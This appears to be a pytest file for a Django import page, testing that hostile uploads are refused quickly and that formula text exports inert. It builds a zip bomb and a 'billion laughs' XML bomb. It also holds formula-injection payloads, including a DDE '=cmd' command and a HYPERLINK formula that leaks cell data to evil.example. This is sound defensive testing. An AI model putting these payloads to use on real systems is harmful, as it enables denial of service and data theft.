"""Hostile files in the admin's import: each gets a clear message on the import page, quickly, in
little memory, and nothing is written. Formula text that is imported comes out of the exports inert."""

import csv
import functools
import html
import io
import json
import random
import time
import tracemalloc
import zipfile

import openpyxl
import pytest

from core import imports
from outcomes.models import Organisation, Outcome
from tests.portal.test_import import (
    CSV,
    OUTCOMES_CONFIRM,
    OUTCOMES_IMPORT,
    XLSX,
    body,
    confirm,
    upload,
)

pytestmark = pytest.mark.django_db

HEADER = "partnership_slug,type,title,country\n"


@pytest.fixture
def editor_client(client, editor, partnership):
    client.force_login(editor)
    return client


def workbook(*rows) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


MB = 1024 * 1024
GOOD_WORKBOOK_ROWS = (["partnership_slug", "type", "title", "country"], ["elca", "mou", "A", "US"])


@functools.cache
def zip_bomb() -> bytes:
    """A workbook whose sheet is about 120 MB of rows that deflate to a few hundred KB: far more rows than
    memory holds once read into a table."""
    source = zipfile.ZipFile(io.BytesIO(workbook(*GOOD_WORKBOOK_ROWS)))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for member in source.infolist():
            if member.filename != "xl/worksheets/sheet1.xml":
                archive.writestr(member, source.read(member))
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(
                b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                b"<sheetData>"
            )
            rows = b'<row><c t="inlineStr"><is><t>elca</t></is></c></row>' * 20_000
            for _ in range(120 * MB // len(rows)):
                sheet.write(rows)
            sheet.write(b"</sheetData></worksheet>")
    return buffer.getvalue()


def entity_bomb() -> bytes:
    """A workbook whose sheet is a "billion laughs": nested entities that expand to gigabytes."""
    laughs = '<!ENTITY a0 "ha">' + "".join(
        f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10)
    )
    sheet = (
        f'<?xml version="1.0"?><!DOCTYPE worksheet [{laughs}]>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&a9;</t></is></c></row></sheetData>'
        "</worksheet>"
    )
    source = zipfile.ZipFile(io.BytesIO(workbook(*GOOD_WORKBOOK_ROWS)))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for member in source.infolist():
            data = source.read(member)
            if member.filename == "xl/worksheets/sheet1.xml":
                data = sheet.encode()
            archive.writestr(member, data)
    return buffer.getvalue()


def measured(call):
    """The response, the seconds it took and the peak of memory Python allocated meanwhile."""
    tracemalloc.start()
    started = time.perf_counter()
    try:
        response = call()
    finally:
        elapsed = time.perf_counter() - started
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    return response, elapsed, peak


# Beyond the first 8 KB, where a check of the head alone would not look.
LATE_LATIN_PREFIX = (HEADER + "elca,mou,Fine title,US\n" * 2000 + "elca,mou,Caf").encode()

HOSTILE_FILES = {
    "zip bomb renamed .xlsx": (
        "report.xlsx",
        zip_bomb,
        XLSX,
        "This workbook unpacks to 119 MB in",
    ),
    "billion laughs in a workbook": ("laughs.xlsx", entity_bomb, XLSX, "not an XLSX workbook"),
    "CSV with 1,000,000 columns": (
        "wide.csv",
        lambda: (HEADER.strip() + "," * 1_000_000 + "\n").encode(),
        CSV,
        "The file has 1,000,004 columns or more; imports take at most 100.",
    ),
    "invalid UTF-8 after the first kilobytes": (
        "late-latin.csv",
        lambda: LATE_LATIN_PREFIX + b"\xe9,US\n",
        CSV,
        f"This CSV file is not UTF-8. Byte {len(LATE_LATIN_PREFIX):,} cannot be read",
    ),
    "empty file": ("empty.csv", lambda: b"", CSV, "The submitted file is empty."),
    "binary file named .csv": (
        "data.csv",
        lambda: random.Random(8).randbytes(200_000),
        CSV,
        "This file is not a CSV text file (it holds binary data).",
    ),
    "a zip that is not a workbook": (
        "archive.xlsx",
        lambda: _zip_of({"hello.txt": b"hello"}),
        XLSX,
        "This file is not an XLSX workbook.",
    ),
    "rows over the limit": (
        "long.csv",
        lambda: (HEADER + "elca,mou,A title,US\n" * 10_001).encode(),
        CSV,
        "The file has 10,001 rows or more; imports take at most 10,000.",
    ),
    "a field longer than csv reads": (
        "long-field.csv",
        lambda: (HEADER + 'elca,mou,"' + "x" * 200_000 + '",US\n').encode(),
        CSV,
        "Line 2 cannot be read as CSV (field larger than field limit",
    ),
    "formula cell =HYPERLINK": (
        "hyperlink.xlsx",
        lambda: workbook(
            GOOD_WORKBOOK_ROWS[0],
            ["elca", "mou", '=HYPERLINK("http://evil.example/?"&A1,"Click for details")', "US"],
        ),
        XLSX,
        "Cell C2 holds a formula (=HYPERLINK(",
    ),
    "formula cell =cmd": (
        "dde.xlsx",
        lambda: workbook(GOOD_WORKBOOK_ROWS[0], ["elca", "mou", "=cmd|' /C calc'!A0", "US"]),
        XLSX,
        "Cell C2 holds a formula (=cmd|' /C calc'!A0); imports take values only.",
    ),
}


def _zip_of(parts: dict) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


@pytest.mark.parametrize("case", HOSTILE_FILES)
def test_a_hostile_file_gets_a_clear_message_quickly_and_nothing_is_written(editor_client, case):
    name, make, fmt, message = HOSTILE_FILES[case]
    content = make()
    before = (Outcome.objects.count(), Organisation.objects.count())
    response, elapsed, peak = measured(
        lambda: upload(editor_client, OUTCOMES_IMPORT, name, content, fmt)
    )
    assert response.status_code == 200
    assert message in html.unescape(response.text)
    assert "confirm_form" not in response.context
    assert (Outcome.objects.count(), Organisation.objects.count()) == before
    assert elapsed < 5, f"{elapsed:.1f} s"
    # The file itself is held a few times over (the upload, the test client's request body);
    # nothing near what it unpacks or parses to.
    assert peak < 12 * len(content) + 40 * MB, f"{peak / MB:.0f} MB"


def test_a_workbook_over_the_row_limit_is_refused(editor_client, monkeypatch):
    monkeypatch.setattr(imports, "MAX_IMPORT_ROWS", 5)
    rows = [GOOD_WORKBOOK_ROWS[0]] + [["elca", "mou", f"MoU {n}", "US"] for n in range(6)]
    response = upload(editor_client, OUTCOMES_IMPORT, "long.xlsx", workbook(*rows), XLSX)
    assert "The file has 6 rows or more; imports take at most 5." in response.text
    assert not Outcome.objects.exists()


def test_the_format_chosen_decides_the_checks_not_the_file_name(editor_client):
    response = upload(editor_client, OUTCOMES_IMPORT, "report.bin", zip_bomb(), XLSX)
    assert "This workbook unpacks to 119 MB" in response.text
    assert not Outcome.objects.exists()


FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "=1+1",
]


def test_formula_text_imported_as_text_comes_out_of_every_export_inert(
    editor_client, client, partnership
):
    partnership.is_published = True
    partnership.save()
    rows = io.StringIO()
    writer = csv.writer(rows)
    writer.writerow(["partnership_slug", "type", "title", "city", "country"])
    for number, formula in enumerate(FORMULAS):
        writer.writerow(["elca", "mission", formula, formula, "US"])
        writer.writerow(["elca", "mission", f"Mission {number}", "", "US"])
    preview = upload(editor_client, OUTCOMES_IMPORT, "formulas.csv", rows.getvalue().encode())
    confirm(editor_client, OUTCOMES_CONFIRM, preview)
    Outcome.objects.update(is_published=True)
    # Stored as the text the curator typed, not a formula and not mangled.
    assert set(FORMULAS) <= set(Outcome.objects.values_list("title", flat=True))

    exported_csv = body(client.get("/outcomes/", {"export": "csv"})).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(exported_csv)) for cell in row]
    for formula in FORMULAS:
        assert "'" + formula in cells
        assert formula not in cells

    sheet = openpyxl.load_workbook(
        io.BytesIO(body(client.get("/outcomes/", {"export": "xlsx"})))
    ).active
    values = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in values if cell.data_type == "f"]
    # Stored as text cells, which a spreadsheet never runs: exactly the text, no quote showing.
    texts = {cell.value for cell in values if cell.data_type == "s"}
    for formula in FORMULAS:
        assert formula in texts

    # JSON is no spreadsheet: the text comes back exactly as stored.
    records = json.loads(body(client.get("/outcomes/", {"export": "json"})))
    assert set(FORMULAS) <= {record["title"] for record in records}
